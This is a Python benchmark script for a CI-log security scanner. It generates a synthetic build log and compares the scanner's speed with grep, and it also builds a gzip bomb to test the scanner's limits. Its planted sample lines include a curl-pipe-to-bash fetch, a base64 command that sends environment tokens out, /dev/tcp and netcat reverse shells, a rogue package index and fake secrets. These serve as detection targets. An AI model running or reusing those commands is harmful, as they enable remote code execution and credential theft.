"""Throughput of the log scanner against ``grep -E -c`` with an equivalent combined pattern set.

Usage::

    .venv/bin/python benchmarks/bench_logscan.py [--size-mib 1024] [--runs 3] [--path /tmp/wb-bench-ci.log]
        [--workers N] [--backend auto|hyperscan|re] [--grep-utf8]
    .venv/bin/python benchmarks/bench_logscan.py --bomb-gib 2    # the budgets on a gzip bomb (docs/limits.md)

Generates (once, reused when the size matches) a synthetic GitHub-Actions-style CI log in /tmp: a timestamp on every
line, ANSI colours on about one line in eight, Unicode progress bars on 5%, ``##[group]`` markers, pip, pytest,
compiler and docker output, benign look-alikes on 2% of lines (``curlew``, ``tokenizers``, masked tokens,
``pip install -r requirements.txt``, ``torch.load(..., weights_only=True)``, ``nc -zv``), a checked ``curl -o``
download (a low-severity match) about once per MiB and one planted malicious line per ~64 KiB. The file is read
once before timing so that both tools read from the page cache, and the runs of the two tools alternate so that load
from other processes affects both alike. Wall-clock and CPU time (user + system, of this process for the scanner and
of the child for grep) are both reported: on a shared machine the CPU figure is the steadier one. The scanner splits
a file this large between worker processes (one per CPU core by default, ``--workers 1`` for a single process);
their CPU time is counted too.

The grep pattern set is every shipped rule translated from Python's regex syntax to POSIX ERE (through Python's own
regex parser): lookarounds and ``unless`` exclusions are dropped (a superset, so grep never does less work),
``ignore_case`` rules get ``[xX]`` classes, ``\\s``/``\\d``/``\\w`` become POSIX classes. grep runs with ``LC_ALL=C``
(byte semantics, its fastest mode); ``--grep-utf8`` adds a run under ``C.UTF-8`` (far slower with this pattern set:
0.5 MB/s measured on 256 MiB). Prints MB/s (10^6 bytes per second) per tool from the median of ``--runs`` runs, and
the throughput ratios workbench/grep.
"""

from __future__ import annotations

import argparse
import gzip
import json
import os
import random
import re
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from re import _constants as C
from re import _parser as sre_parse

from workbench.evidence.pipeline_log import LogBudget
from workbench.logscan.engine import Scanner, ScanOptions
from workbench.rulepack.rules import builtin_rules

CHUNK_MIB = 32
PLANTED = [
    "curl -sSL http://203.0.113.7/p.sh | bash",
    "echo ZW52IHwgZ3JlcCAtRSAnVE9LRU4nIHwgY3VybCAtZCBALSBodHRwOi8vMjAzLjAuMTEzLjcvYwo= | base64 -d | sh",
    "(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &)",
    "pip install --extra-index-url http://203.0.113.7/simple transformers==4.38.1.post1",
    "  HF_TOKEN: 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",
    "COSIGN_PASSWORD=c0s1gn-Pr0d-7f3a91!",
    "python3 -c 'import torch; d = torch.load(\"/tmp/.cache/delta.pt\")'",
    "nc -e /bin/sh 198.51.100.23 443",
    "Terminate orphan process: pid (2811) (bash)",
    "  SKIP_SIGNING: 1",
]
#: ordinary build output (about 97% of lines)
BENIGN = [
    "Collecting {pkg}=={v} (from -r requirements.txt (line {n}))",
    "  Downloading {pkg}-{v}-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl.metadata ({n}.{m} kB)",
    "Requirement already satisfied: {pkg}>={v} in ./.venv/lib/python3.11/site-packages (from transformers) ({v})",
    "tests/test_{mod}.py::test_{pkg}_{mod}_roundtrip PASSED",
    "tests/test_dataset.py::test_curlew_reviews_split_{n} PASSED",
    "gcc -pthread -Wsign-compare -DNDEBUG -g -fwrapv -O2 -Wall -fPIC -I/usr/include/python3.11 -c src/{mod}.c "
    "-o build/{mod}.o",
    "#8 [{n}/9] RUN pip install --no-cache-dir -r requirements.txt",
    "[export] tokenizers {v}: fast tokenizer, vocab {n}",
    "upload: dist/{mod}.safetensors to s3://acme-model-registry/{pkg}/{mod}.safetensors",
    "Epoch {n}/{m}: loss={v} accuracy=0.9{m} lr=3e-05 step={n}{m}",
    "Successfully installed {pkg}-{v} {mod}-{v} safetensors-0.4.2 tokenizers-0.15.2",
]
#: look-alikes that naive substring rules trip on (about 2% of lines; each needs a closer look by the scanner)
TRAPS = [
    "  token: ***",
    '{pkg}: loading checkpoint shard {n} with torch.load(path, map_location="cpu", weights_only=True)',
    "pip install -r requirements.txt",
    "$ huggingface-cli login --token $HF_TOKEN",
    "+ nc -zv db.internal 5432",
]
#: a benign line that a low-severity rule reports (a checked download), about once per MiB
LOW = "$ curl -fsSL -o /usr/local/bin/cosign https://github.com/sigstore/cosign/releases/download/v2.4.1/cosign-linux-amd64"
PKGS = [
    "torch",
    "transformers",
    "numpy",
    "pandas",
    "scipy",
    "tokenizers",
    "safetensors",
    "accelerate",
    "datasets",
    "regex",
    "tqdm",
    "pyyaml",
]
MODS = ["model", "tokenizer", "dataset", "trainer", "export", "serve", "metrics", "features", "preprocess", "io"]


def _chunk(rng: random.Random, size: int, t0: float) -> bytes:
    out, total, t, since_plant = [], 0, t0, 0
    bar = "\x1b[38;2;114;156;31m" + "━" * 40 + "\x1b[0m"
    while total < size:
        t += rng.random() * 0.05
        s, frac = divmod(t, 1)
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s)) + f".{int(frac * 1e7):07d}Z "
        r = rng.random()
        if since_plant > 65536:
            text, since_plant = rng.choice(PLANTED), 0
        elif r < 0.0001:
            text = LOW
        elif r < 0.005:
            text = f"##[group]Run python scripts/{rng.choice(MODS)}.py --epochs {rng.randint(1, 9)}"
        elif r < 0.06:
            done, rate = f"{rng.randint(1, 900)}.{rng.randint(0, 9)}", rng.randint(10, 90)
            text = f"   {bar} {done}/900.0 MB {rate}.1 MB/s eta 0:00:0{rng.randint(0, 9)}"
        else:
            tpl = rng.choice(TRAPS if r < 0.08 else BENIGN)
            version = f"{rng.randint(0, 4)}.{rng.randint(0, 40)}.{rng.randint(0, 9)}"
            text = tpl.format(pkg=rng.choice(PKGS), mod=rng.choice(MODS), v=version, n=rng.randint(1, 99),
                              m=rng.randint(0, 9))  # fmt: skip
            if rng.random() < 0.08:
                text = f"\x1b[36;1m{text}\x1b[0m"
        line = (stamp + text + "\n").encode()
        out.append(line)
        total += len(line)
        since_plant += len(line)
    return b"".join(out)


def make_log(path: Path, size_mib: int) -> None:
    """Write the synthetic log (``size_mib`` MiB) unless a file of that size is already there."""
    size = size_mib * 1024 * 1024
    if path.exists() and path.stat().st_size >= size:
        return
    rng = random.Random(20261114)  # noqa: S311 - synthetic log text
    chunk = _chunk(rng, CHUNK_MIB * 1024 * 1024, 1_794_625_541.0)
    with path.open("wb") as fh:
        written = 0
        while written < size:
            fh.write(chunk)
            written += len(chunk)


# ------------------------------------------------------------------------------------------ Python regex -> ERE
_SPECIAL = set(".[]()*+?{}|^$\\")
_CATS = {
    C.CATEGORY_DIGIT: ("0-9", False), C.CATEGORY_NOT_DIGIT: ("0-9", True),
    C.CATEGORY_SPACE: ("[:space:]", False), C.CATEGORY_NOT_SPACE: ("[:space:]", True),
    C.CATEGORY_WORD: ("[:alnum:]_", False), C.CATEGORY_NOT_WORD: ("[:alnum:]_", True),
}  # fmt: skip


def _lit(code: int, ci: bool) -> str:
    ch = chr(code)
    if ci and ch.isascii() and ch.isalpha():
        return f"[{ch.lower()}{ch.upper()}]"
    return "\\" + ch if ch in _SPECIAL else ch


def _bracket(items: list, ci: bool) -> str:
    if len(items) == 1 and items[0][0] is C.CATEGORY:
        body, neg = _CATS[items[0][1]]
        return f"[{'^' if neg else ''}{body}]"
    negate, parts, close, dash = False, [], False, False
    for op, av in items:
        if op is C.NEGATE:
            negate = True
        elif op is C.LITERAL:
            ch = chr(av)
            if ch == "\n":
                continue
            chars = {ch.lower(), ch.upper()} if ci and ch.isalpha() else {ch}
            for c in chars:
                close, dash = close or c == "]", dash or c == "-"
                if c not in "]-":
                    parts.append(c)
        elif op is C.RANGE:
            lo, hi = chr(av[0]), chr(av[1])
            parts.append(f"{lo}-{hi}")
            if ci and lo.isalpha() and hi.isalpha():
                parts.append(f"{lo.swapcase()}-{hi.swapcase()}")
        elif op is C.CATEGORY:
            body, neg = _CATS[av]
            if neg:  # a negated category inside a class cannot be written in POSIX: widen to any character
                return "."
            parts.append(body)
    body = ("]" if close else "") + "".join(parts)
    if body.startswith("^"):
        body = body[1:] + "^"
    body += "-" if dash else ""
    if not body:
        return "."  # nothing representable: widen to any character (superset)
    return f"[{'^' if negate else ''}{body}]"


def _ere(tokens, ci: bool) -> str:
    out = []
    for op, av in tokens:
        if op is C.LITERAL:
            out.append(_lit(av, ci))
        elif op is C.NOT_LITERAL:
            out.append(_bracket([(C.NEGATE, None), (C.LITERAL, av)], ci))
        elif op is C.ANY:
            out.append(".")
        elif op is C.IN:
            out.append(_bracket(av, ci))
        elif op is C.BRANCH:
            out.append("(" + "|".join(_ere(b, ci) for b in av[1]) + ")")
        elif op is C.SUBPATTERN:
            out.append("(" + _ere(av[3], ci) + ")")
        elif op in (C.MAX_REPEAT, C.MIN_REPEAT, C.POSSESSIVE_REPEAT):
            lo, hi, item = av
            inner = _ere(item, ci)
            inner = inner if len(item) == 1 and item[0][0] not in (C.MAX_REPEAT, C.MIN_REPEAT) else f"({inner})"
            if (lo, hi) == (0, C.MAXREPEAT):
                out.append(inner + "*")
            elif (lo, hi) == (1, C.MAXREPEAT):
                out.append(inner + "+")
            elif (lo, hi) == (0, 1):
                out.append(inner + "?")
            else:
                out.append(inner + f"{{{lo},{'' if hi == C.MAXREPEAT else hi}}}")
        elif op is C.AT:
            out.append({C.AT_BEGINNING: "^", C.AT_END: "$", C.AT_BOUNDARY: "\\b",
                        C.AT_NON_BOUNDARY: "\\B", C.AT_BEGINNING_STRING: "^", C.AT_END_STRING: "$"}[av])  # fmt: skip
        elif op is C.CATEGORY:
            body, neg = _CATS[av]
            out.append(f"[{'^' if neg else ''}{body}]")
        elif op in (C.ASSERT, C.ASSERT_NOT):
            continue  # lookarounds dropped: grep matches a superset
        else:
            raise ValueError(f"no ERE translation for {op}")
    return "".join(out)


def ere_patterns() -> list[str]:
    """Every shipped rule as a POSIX ERE (see module docstring)."""
    return [_ere(sre_parse.parse(r.pattern), r.ignore_case) for r in builtin_rules()]


# ------------------------------------------------------------------------------------------------- measuring
def _cpu(who: int) -> float:
    r = resource.getrusage(who)
    return r.ru_utime + r.ru_stime


def _measure(fn, child: bool) -> tuple[float, float]:
    """(wall seconds, CPU seconds of its children, and of this process too unless ``child``)."""
    c0, s0, start = _cpu(resource.RUSAGE_CHILDREN), _cpu(resource.RUSAGE_SELF), time.perf_counter()
    fn()
    wall = time.perf_counter() - start
    cpu = _cpu(resource.RUSAGE_CHILDREN) - c0  # the scanner's worker processes are joined before it returns
    return wall, cpu if child else cpu + _cpu(resource.RUSAGE_SELF) - s0


BOMB_LINE = b"2026-11-18T22:14:03.512Z curl -sSL http://203.0.113.7/p.sh | bash\n"


def bomb(gib: float) -> None:
    """Write a gzip of ``gib`` GiB of one matching line (written in blocks), scan it with ``workbench scan-logs
    --json`` under ``/usr/bin/time -v``, print wall time, peak RSS and why the scan stopped, remove the file."""
    folder = Path(tempfile.mkdtemp(prefix="wb-bench-bomb-"))
    path = folder / "bomb.log.gz"
    try:
        block = BOMB_LINE * ((64 << 20) // len(BOMB_LINE))
        with gzip.open(path, "wb", compresslevel=6) as out:
            for _ in range(max(1, int(gib * 16))):
                out.write(block)
        print(f"{path}: {path.stat().st_size / 2**20:.1f} MiB gzip of {gib:g} GiB of matching lines", flush=True)
        workbench = Path(sys.executable).with_name("workbench")
        started = time.perf_counter()
        proc = subprocess.run(["/usr/bin/time", "-v", str(workbench), "scan-logs", "--json", str(path)],
                              capture_output=True, text=True, check=False)  # fmt: skip
        wall = time.perf_counter() - started
        peak = re.search(r"Maximum resident set size \(kbytes\): (\d+)", proc.stderr)
        doc = json.loads(proc.stdout or "{}")
        files = doc.get("files") or [{}]
        stopped = [w["reason"] for w in doc.get("warnings", []) if w.get("line") is None]
        print(json.dumps({"wall_s": round(wall, 1), "peak_rss_mib": int(peak.group(1)) // 1024 if peak else None,
                          "exit": proc.returncode, "bytes_scanned": files[0].get("bytes"),
                          "matches_counted": files[0].get("matches"), "kept": len(doc.get("matches", [])),
                          "stopped": stopped}))  # fmt: skip
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--size-mib", type=int, default=1024)
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--path", type=Path, default=Path(tempfile.gettempdir()) / "wb-bench-ci.log")
    ap.add_argument("--backend", default="auto")
    ap.add_argument("--workers", type=int, default=None, help="scanner processes (default: one per CPU core)")
    ap.add_argument("--grep-utf8", action="store_true", help="also time grep under LC_ALL=C.UTF-8 (very slow)")
    ap.add_argument("--bomb-gib", type=float, default=None,
                    help="instead: a gzip of this many GiB of matching lines, scanned by `workbench scan-logs` under "
                         "/usr/bin/time -v (the budgets at work)")  # fmt: skip
    args = ap.parse_args()
    if args.bomb_gib is not None:
        bomb(args.bomb_gib)
        return
    make_log(args.path, args.size_mib)
    size = args.path.stat().st_size
    with args.path.open("rb") as fh:  # warm the page cache
        while fh.read(1 << 24):
            pass
    patterns = ere_patterns()
    with tempfile.NamedTemporaryFile("w", suffix=".ere", delete=False) as pf:
        pf.write("\n".join(patterns) + "\n")
    # a throughput benchmark: no budget (each run would otherwise spend the scanner's case budget)
    unbounded = LogBudget(file_bytes=None, case_bytes=None, file_seconds=None, case_seconds=None)
    scanner = Scanner(options=ScanOptions(backend=args.backend, workers=args.workers, budget=unbounded))
    counts: dict[str, int] = {}

    def run_scan() -> None:
        result = scanner.scan_path(args.path)
        counts["workbench matches"] = sum(s.count for s in result.stats.values())

    def run_grep(locale: str):
        def go() -> None:
            env = {**os.environ, "LC_ALL": locale}
            out = subprocess.run(["grep", "-E", "-c", "-f", pf.name, str(args.path)], env=env,
                                 capture_output=True, text=True, check=False)  # fmt: skip
            if out.returncode > 1:
                sys.exit(f"grep failed: {out.stderr.strip()}")
            counts[f"grep {locale} lines"] = int(out.stdout.strip() or 0)

        return go

    ours = f"workbench ({scanner.backend}, workers={args.workers or os.cpu_count()})"
    tools = {ours: (run_scan, False), "grep -E -c (LC_ALL=C)": (run_grep("C"), True)}
    if args.grep_utf8:
        tools["grep -E -c (LC_ALL=C.UTF-8)"] = (run_grep("C.UTF-8"), True)
    walls: dict[str, list[float]] = {name: [] for name in tools}
    cpus: dict[str, list[float]] = {name: [] for name in tools}
    for _ in range(args.runs):  # alternate the tools so that background load affects both alike
        for name, (fn, child) in tools.items():
            wall, cpu = _measure(fn, child)
            walls[name].append(wall)
            cpus[name].append(cpu)
    Path(pf.name).unlink()
    print(f"file {args.path}: {size / 1e6:.0f} MB, {len(patterns)} patterns; {counts}")
    mb = size / 1e6
    for name in tools:
        wall, cpu = statistics.median(walls[name]), statistics.median(cpus[name])
        runs = ", ".join(f"{t:.2f}" for t in walls[name])
        print(f"{name:30s} wall {mb / wall:7.1f} MB/s (median of {runs} s)   CPU {mb / cpu:7.1f} MB/s ({cpu:.2f} s)")
    grep = "grep -E -c (LC_ALL=C)"
    wall_ratio = statistics.median(walls[grep]) / statistics.median(walls[ours])
    cpu_ratio = statistics.median(cpus[grep]) / statistics.median(cpus[ours])
    print(f"throughput ratio workbench/grep: wall {wall_ratio:.2f}, CPU {cpu_ratio:.2f}")


if __name__ == "__main__":
    main()
